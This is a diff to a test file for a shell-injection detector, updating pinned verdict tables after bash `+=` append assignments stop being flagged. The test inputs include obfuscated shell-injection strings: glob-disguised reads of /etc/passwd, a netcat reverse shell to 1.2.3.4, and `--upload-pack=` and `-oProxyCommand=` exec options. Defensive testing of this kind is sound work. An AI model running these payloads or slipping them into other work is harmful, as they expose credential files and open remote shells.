@@ -1332,7 +1332,10 @@ t.test('mayFind short runs and call-operator reads: verdicts on a seeded table a
 // tracking; it now also needs a `/` in the value. Values of quotes, globs, blanks, separators,
 // command names and glob paths, half of them with every `/` removed; digest and counts computed on
 // the code before the change (7c28b55). Dropping the test altogether changes 162 verdicts of 200 k in
-// the session's differential (`"/???/??t=!`); the change itself none.
+// the session's differential (`"/???/??t=!`); the change itself none. Session 23 (red team round 6):
+// bash's `NAME+=` append assignment is read as one, which moves 4 verdicts (2 values, with and without
+// the mask), each a command name glued to `+=`: `nc+="](??????t`, `nc+=\`?}#` (medium -> none; bash
+// assigns the variable `nc`, dash looks for a program named `nc+=…`: nc runs in neither).
 t.test('quotes with a glob and no slash: verdicts on a seeded table are those of the code before', (t) => {
   const r = prng(1704);
   const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
@@ -1346,7 +1349,7 @@ t.test('quotes with a glob and no slash: verdicts on a seeded table are those of
     if (r() < 0.1) s = s.repeat(2 + Math.floor(r() * 5));
     return s;
   };
-  t.same(pinnedTable(gen), { findings: 1475, high: 1120, digest: '87d725e5' });
+  t.same(pinnedTable(gen), { findings: 1473, high: 1120, digest: '4a2985b5' });
   for (const u of ['"[', '?"-', '[`"', '".-*`']) t.equal(detectShellInjection(u.repeat(4000)), undefined, JSON.stringify(u));
   t.end();
 });
@@ -1423,7 +1426,9 @@ t.test('dense punctuation: mayFind and verdicts pinned on seeded tables (session
   // a value that starts with an exec option and `=` (`--upload-pack=e`, `-oProxyCommand=/!`), with
   // and without the mask: mayFind is unchanged.
   t.same(scanPin(S18_PIECES_A), { mayFind: '8aca249b', trues: 44943, verdicts: '75045045', findings: 1611 });
-  t.same(scanPin(S18_PIECES_B), { mayFind: '7f96b3dd', trues: 39304, verdicts: '69dc41e1', findings: 365 });
+  // (Session 23: `…|ls+=a_0-(…` high -> none, with and without the mask: bash's append assignment to
+  // the variable `ls`, no command run; verdicts 69dc41e1 / 365 findings before.)
+  t.same(scanPin(S18_PIECES_B), { mayFind: '7f96b3dd', trues: 39304, verdicts: 'a76f6c1d', findings: 364 });
   t.same(scanPin(S18_PIECES_C), { mayFind: 'c8f751dd', trues: 34860, verdicts: '5ba4c749', findings: 650 });
   for (const w of ['/???/c?t /et?/pass??', '|/bi?/c?t /etc/passwd', ';/???/who?mi', ';/*/n?at -e sh 1.2.3.4 4444']) {
     t.equal(detectShellInjection(w)?.confidence, 'high', w);
